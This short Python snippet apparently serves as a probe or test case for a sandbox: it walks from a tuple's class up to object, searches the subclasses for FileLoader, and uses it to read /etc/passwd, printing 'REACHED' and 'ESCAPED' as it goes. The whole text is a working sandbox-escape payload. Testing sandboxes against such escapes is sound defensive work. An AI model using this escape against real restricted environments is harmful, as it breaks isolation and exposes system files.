# tries: from a tuple up to object and down to a loader
# class: walk
# stops: 1 2 3 4
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "FileLoader":
        print("REACHED")
        if b"root:" in c("x", "y").get_data("/etc/passwd"):
            print("ESCAPED")
